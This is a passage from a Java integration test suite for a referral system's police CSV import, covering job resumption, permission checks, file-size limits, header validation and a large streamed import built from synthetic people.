                    + "AND reason = 'import resumed after row 3'").param(job.toString()).query(Integer.class).single())
                    .isEqualTo(1);
            assertThat(file).as("the file goes once the job has ended").doesNotExist();
            assertThat(imports.resumeInterrupted()).as("an ended job is never taken up again").isZero();
        } finally {
            Files.deleteIfExists(committed);
            Files.deleteIfExists(file);
        }
    }

    /**
     * A stalled job taken up again waits while the one worker imports another file: its page shows it importing
     * (it is queued here), never "failed" because it was last heard from long ago. The other file's one row names
     * a referring agency whose row this test holds locked ({@code FOR UPDATE}): its referral's foreign key check
     * waits for the lock, so the worker is busy for exactly as long as the test needs, with no large file.
     */
    @Test
    void aResumedJobWaitingBehindAnotherImportShowsAsImporting() throws Exception {
        String agency = policeAgency("Northfield Police");
        String blocking = policeAgency("Southfield Police");
        Fixtures.TestUser hub = fixtures.enrolledUserAt("Northfield Police", Role.HUB_COORDINATOR);
        WebSession web = new WebSession(port);
        web.signIn(hub);
        String yesterday = LocalDate.now().minusDays(1).toString();
        Path busyFile = Files.createTempFile("import-busy", ".csv");
        Path file = Files.createTempFile("import-waiting", ".csv");
        try (Connection lock = dataSource.getConnection()) {
            lock.setAutoCommit(false);
            try (var s = lock.prepareStatement("SELECT id FROM agency WHERE id = ? FOR UPDATE")) {
                s.setObject(1, UUID.fromString(blocking));
                s.executeQuery().close();
            }
            String busyJob;
            UUID job;
            try {
                Files.writeString(busyFile, HEADER + row("NP/" + unique(), yesterday, "Southfield Police", unique(),
                        "PHYSICAL", "Busy"));
                busyJob = upload(web, busyFile);
                Files.writeString(file, HEADER + row("NP/" + unique(), yesterday, "", unique(), "PHYSICAL", "Waiting"));
                job = interruptedJob(agency, hub.user().id().value(), file, 0, 0, 0, "1 hour");
                assertThat(imports.resumeInterrupted()).isPositive();
                Page waiting = web.get("/referrals/import/" + job);
                assertThat(waiting.html().selectFirst("h1").text()).as("queued behind " + busyJob).isEqualTo("Importing");
                assertThat(web.get(busyJob).html().selectFirst("h1").text()).as("the worker is held").isEqualTo("Importing");
            } finally {
                lock.rollback();
            }
            assertThat(count(finished(web, busyJob, Duration.ofSeconds(120)), "imported")).isEqualTo(1);
            assertThat(count(finished(web, "/referrals/import/" + job, Duration.ofSeconds(120)), "imported"))
                    .isEqualTo(1);
        } finally {
            Files.deleteIfExists(busyFile);
            Files.deleteIfExists(file);
        }
    }

    /**
     * Returns once the one import worker has run everything queued before this call: a one-row file uploaded now
     * is queued behind it, and has finished. What a test expects not to have been imported then never will be.
     */
    private void workerDone() throws Exception {
        WebSession web = coordinator();
        Path marker = Files.createTempFile("import-marker", ".csv");
        try {
            Files.writeString(marker, HEADER + row("NP/" + unique(), LocalDate.now().minusDays(1).toString(), "",
                    unique(), "PHYSICAL", "Marker"));
            assertThat(count(finished(web, upload(web, marker), Duration.ofSeconds(120)), "imported")).isEqualTo(1);
        } finally {
            Files.deleteIfExists(marker);
        }
    }

    /** A job heard from recently is running somewhere (this instance or another): it is left alone. */
    @Test
    void aJobHeardFromLatelyIsNotTakenOver() throws Exception {
        String agency = policeAgency("Northfield Police");
        Fixtures.TestUser hub = fixtures.enrolledUserAt("Northfield Police", Role.HUB_COORDINATOR);
        String live = "NP/" + unique();
        Path liveFile = Files.createTempFile("import-live", ".csv");
        UUID liveJob = null;
        try {
            Files.writeString(liveFile, HEADER + row(live, LocalDate.now().minusDays(1).toString(), "", unique(),
                    "PHYSICAL", "Running elsewhere"));
            liveJob = interruptedJob(agency, hub.user().id().value(), liveFile, 0, 0, 0, "1 second");
            imports.resumeInterrupted();
            workerDone();
            assertThat(jdbc.sql("SELECT count(*) FROM referral WHERE police_reference = ?").param(live)
                    .query(Integer.class).single()).as("a job heard from lately is not run twice").isZero();
            assertThat(jdbc.sql("SELECT status FROM import_job WHERE id = ?").param(liveJob).query(String.class).single())
                    .isEqualTo("RUNNING");
        } finally {
            if (liveJob != null) {
                jdbc.sql("UPDATE import_job SET status = 'FAILED', finished_at = now() WHERE id = ?").param(liveJob)
                        .update();
            }
            Files.deleteIfExists(liveFile);
        }
    }

    /** A stopped job whose uploader may no longer import is marked failed, never run as someone who may not. */
    @Test
    void aStoppedJobIsNeverTakenUpAsAnUploaderWhoMayNotImport() throws Exception {
        String agency = policeAgency("Northfield Police");
        Fixtures.TestUser housing = fixtures.enrolledUserAt("Eastgate Housing Trust", Role.AGENCY_REPRESENTATIVE);
        String refused = "NP/" + unique();
        Path refusedFile = Files.createTempFile("import-refused", ".csv");
        try {
            Files.writeString(refusedFile, HEADER + row(refused, LocalDate.now().minusDays(1).toString(), "", unique(),
                    "PHYSICAL", "Not allowed"));
            UUID refusedJob = interruptedJob(agency, housing.user().id().value(), refusedFile, 0, 0, 0, "1 hour");
            imports.resumeInterrupted();
            workerDone();
            assertThat(jdbc.sql("SELECT count(*) FROM referral WHERE police_reference = ?").param(refused)
                    .query(Integer.class).single()).as("not imported as a housing representative").isZero();
            assertThat(jdbc.sql("SELECT status FROM import_job WHERE id = ?").param(refusedJob).query(String.class)
                    .single()).isEqualTo("FAILED");
        } finally {
            Files.deleteIfExists(refusedFile);
        }
    }

    @Test
    void fileOverTheLimitGetsAClearPage() throws Exception {
        WebSession web = coordinator();
        Path file = Files.createTempFile("import-huge", ".csv");
        try (OutputStream out = Files.newOutputStream(file)) {
            byte[] mb = (HEADER + "x".repeat(1024 * 1024 - HEADER.length())).getBytes(StandardCharsets.UTF_8);
            for (int i = 0; i < 51; i++) {
                out.write(mb);
            }
        }
        try {
            Page form = web.open("/referrals/import");
            String boundary = "----hearth" + UUID.randomUUID();
            Page posted = web.send(HttpRequest.newBuilder(web.uri("/referrals/import"))
                    .header("Content-Type", "multipart/form-data; boundary=" + boundary).header("Accept", "text/html")
                    .POST(HttpRequest.BodyPublishers.concat(HttpRequest.BodyPublishers.ofString("--" + boundary
                            + "\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n" + form.csrf() + "\r\n--" + boundary
                            + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.csv\"\r\n\r\n"),
                            HttpRequest.BodyPublishers.ofFile(file),
                            HttpRequest.BodyPublishers.ofString("\r\n--" + boundary + "--\r\n"))));
            assertThat(posted.status()).isEqualTo(413);
            assertThat(posted.html().selectFirst("h1").text()).isEqualTo("The file is too large");
            assertThat(posted.html().select("main").text()).contains("50 MB");
        } finally {
            Files.deleteIfExists(file);
        }
    }

    @Test
    void unknownHeaderStopsTheWholeFile() throws Exception {
        WebSession web = coordinator();
        Path file = Files.createTempFile("import-test", ".csv");
        String ref = "NP/" + unique();
        Files.writeString(file, HEADER.replace("narrative", "narrative,favourite_colour")
                + row(ref, LocalDate.now().toString(), "", unique(), "PHYSICAL", "x,blue"));
        try {
            Page report = finished(web, upload(web, file), Duration.ofSeconds(30));
            assertThat(report.html().selectFirst("h1").text()).isEqualTo("Import stopped");
            assertThat(report.html().selectFirst("#job-message").text()).contains("favourite_colour");
            assertThat(jdbc.sql("SELECT count(*) FROM referral WHERE police_reference = ?").param(ref)
                    .query(Integer.class).single()).isZero();
        } finally {
            Files.deleteIfExists(file);
        }
    }

    @Test
    void onlyCoordinatorsAndPoliceRepresentativesImport() {
        policeAgency("Northfield Police");
        WebSession practitioner = new WebSession(port);
        practitioner.signIn(fixtures.enrolledUserAt("Northfield Police", Role.PRACTITIONER));
        assertThat(practitioner.get("/referrals/import").status()).isEqualTo(403);
        WebSession councilRep = new WebSession(port);
        councilRep.signIn(fixtures.enrolledUserAt("Test Agency", Role.AGENCY_REPRESENTATIVE));
        assertThat(councilRep.get("/referrals/import").status()).isEqualTo(403);
        WebSession policeRep = new WebSession(port);
        policeRep.signIn(fixtures.enrolledUserAt("Northfield Police", Role.AGENCY_REPRESENTATIVE));
        Page form = policeRep.get("/referrals/import");
        assertThat(form.status()).isEqualTo(200);
        assertThat(form.html().select("#agency option")).hasSize(1);

        Page spec = policeRep.get("/referrals/import/specification");
        assertThat(spec.html().select("#columns").text()).contains("police_reference").contains("abuse_types");
        Page template = policeRep.get("/referrals/import/template.csv");
        assertThat(template.status()).isEqualTo(200);
        assertThat(template.body()).startsWith("police_reference,incident_date,");
    }

    /**
     * A generated file, streamed from disk through the upload and the background job. Every row goes through the
     * whole door (matching, person records, audit entries, event). Every tenth row names again the victim and
     * perpetrator of a row seven before it (same names and dates of birth), and must be linked to them: a row is
     * matched against the people the file's earlier rows created. The suite imports 1,000 rows;
     * {@code -Dhearth.import-test-rows=100000} runs the full-size file (see BENCHMARKS.md, "Police import").
     * That the file is read as a stream, not loaded whole, is proved by {@code CsvRecordsTest}.
     */
    @Test
    void largeFileImportsInTheBackgroundAsAStream() throws Exception {
        int rows = Integer.getInteger("hearth.import-test-rows", 1_000);
        WebSession web = coordinator();
        String yesterday = LocalDate.now().minusDays(1).toString();
        String run = unique();
        Path file = Files.createTempFile("import-large", ".csv");
        int repeats = 0;
        try (BufferedWriter out = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            out.write(HEADER);
            BulkPeople people = new BulkPeople(rows, run);
            for (int i = 0; i < rows; i++) {
                boolean repeat = i % 10 == 9;
                repeats += repeat ? 1 : 0;
                out.write(people.row("BULK/" + run + "/" + i, yesterday, i, repeat, "Generated incident " + i));
            }
        }
        try {
            Instant start = Instant.now();
            String job = upload(web, file);
            // a functional test, not a timed one (the speed is measured by bench/import): room for a loaded machine
            Page report = finished(web, job, Duration.ofSeconds(Math.max(300, rows / 10)));
            Duration took = Duration.between(start, Instant.now());
            Runtime rt = Runtime.getRuntime();
            System.out.printf("Imported %d rows in %s (%.1f rows/s); heap used %d MB of max %d MB%n", rows, took,
                    rows * 1000.0 / took.toMillis(), (rt.totalMemory() - rt.freeMemory()) >> 20, rt.maxMemory() >> 20);
            assertThat(count(report, "rows-read")).isEqualTo(rows);
            assertThat(count(report, "imported")).isEqualTo(rows);
            assertThat(count(report, "rejected")).isZero();
            String like = "BULK/" + run + "/%";
            assertThat(jdbc.sql("SELECT count(DISTINCT victim_id) FROM referral WHERE police_reference LIKE ?")
                    .param(like).query(Integer.class).single()).as("repeat victims linked").isEqualTo(rows - repeats);
            // each repeat row's victim and perpetrator are those of the row seven before it
            assertThat(jdbc.sql("""
                    SELECT count(*) FROM referral r
                    JOIN referral e ON e.police_reference = 'BULK/' || ? || '/' || (split_part(r.police_reference, '/', 3)::int - 7)
                    JOIN referral_perpetrator rp ON rp.referral_id = r.id
                    JOIN referral_perpetrator ep ON ep.referral_id = e.id
                    WHERE r.police_reference LIKE ? AND split_part(r.police_reference, '/', 3)::int % 10 = 9
                      AND r.victim_id = e.victim_id AND rp.person_id = ep.person_id""")
                    .params(run, like).query(Integer.class).single()).isEqualTo(repeats);
        } finally {
            Files.deleteIfExists(file);
        }
    }

    /**
     * Generated people for the large file, varied like a real feed (names, dates of birth, postcodes), so that
     * different rows' people are neither duplicates nor near-duplicates of each other (a file where every victim
     * shares one birthday and postcode puts all of them in one block). Only the last ten rows' people are kept.
     */
    private static final class BulkPeople {
        private static final String[] WOMEN = {"Fern", "Amara", "Beth", "Carys", "Dana", "Elif", "Freya", "Gemma",
            "Hana", "Isla", "Jade", "Kerry", "Leah", "Maya", "Nadia", "Orla", "Priya", "Rosa", "Sian", "Tara"};
        private static final String[] MEN = {"Gary", "Aaron", "Ben", "Craig", "Dean", "Ewan", "Farid", "Glen",
            "Harun", "Ivan", "Jason", "Karl", "Liam", "Marek", "Neil", "Owen", "Paul", "Reece", "Sean", "Tom"};
        private static final String LETTERS = "ABDEFGHJLNPQRSTUWXYZ";
        private final java.util.Random random;
        private final String run;
        private final String[][] recent = new String[10][];

        BulkPeople(int seed, String run) {
            this.random = new java.util.Random(seed);
            this.run = run;
        }

        private String family() {
            StringBuilder family = new StringBuilder();
            for (int k = 0; k < 8; k++) {
                family.append((char) ((k == 0 ? 'A' : 'a') + random.nextInt(26)));
            }
            return family.append(run.toLowerCase()).toString();
        }

        private String birth(int fromYear, int years) {
            return LocalDate.of(fromYear, 1, 1).plusDays(random.nextInt(years * 365)).toString();
        }

        /** Row {@code i}: new people, or with {@code repeat} the same people as row {@code i - 7}. */
        String row(String ref, String date, int i, boolean repeat, String narrative) {
            String[] p = repeat ? recent[(i - 7) % 10] : new String[] {WOMEN[random.nextInt(WOMEN.length)], family(),
                birth(1950, 55), "NF" + (1 + random.nextInt(9)) + " " + random.nextInt(10)
                        + LETTERS.charAt(random.nextInt(LETTERS.length())) + LETTERS.charAt(random.nextInt(LETTERS.length())),
                MEN[random.nextInt(MEN.length)], family(), birth(1950, 55)};
            recent[i % 10] = p;
            return ref + "," + date + ",21:30,,PC Wells," + p[0] + "," + p[1] + "," + p[2] + ",FEMALE," + p[3] + ","
                    + p[4] + "," + p[5] + "," + p[6] + ",INTIMATE_PARTNER,Hal," + p[1] + ",Y,PHYSICAL,GIVEN," + narrative
                    + "\n";
        }
    }
}
